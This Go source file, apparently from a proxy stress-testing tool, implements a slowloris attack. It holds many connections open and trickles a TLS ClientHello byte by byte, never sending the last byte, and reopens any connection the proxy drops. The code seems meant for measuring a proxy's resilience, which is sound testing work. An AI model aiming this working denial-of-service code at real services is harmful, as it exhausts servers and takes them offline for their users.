package main

import (
	"syscall"
	"time"
)

// How often a socket sends its next byte: often enough for the proxy to see it alive, and as seldom as it can be.
const betweenBytes = 2 * time.Second

// sendSlowHellos holds so many connections that send a hello byte by byte (what is known as slowloris). Whichever the proxy
// closes is opened again at once.
func sendSlowHellos(s settings) {
	target := socketAddress(s.target)
	hello := clientHello(routeName(0))
	result := outcome{Failures: map[string]int{}}
	type slow struct{ fd, sent int }
	all := make([]slow, s.concurrency)
	open := func(i int) {
		fd, err := dial(target)
		if err != nil {
			result.Failures["dial: "+err.Error()]++
			fd = -1
		}
		all[i] = slow{fd: fd}
	}
	p := newPoller()
	clock := startMetronome(float64(len(all)) / betweenBytes.Seconds())
	const clockTag = 1 << 30
	p.add(clock.fd, syscall.EPOLLIN, clockTag)
	for i := range all {
		open(i)
		// The proxy's queue must not overflow by the attack's own beginning.
		if i%100 == 99 {
			time.Sleep(5 * time.Millisecond)
		}
	}
	next := 0
	result.Seconds = s.window.during(p, func() {}, func(int, uint32) {
		clock.due(func(time.Time) {
			c := &all[next]
			if c.fd >= 0 {
				// All of a hello but its last byte, so that none is ever complete.
				_, err := syscall.Write(c.fd, hello[c.sent:c.sent+1])
				if err == nil && c.sent+2 < len(hello) {
					c.sent++
				} else {
					syscall.Close(c.fd)
					c.fd = -1
					result.Done++
				}
			}
			if c.fd < 0 {
				open(next)
			}
			next = (next + 1) % len(all)
		})
	})
	result.print()
}
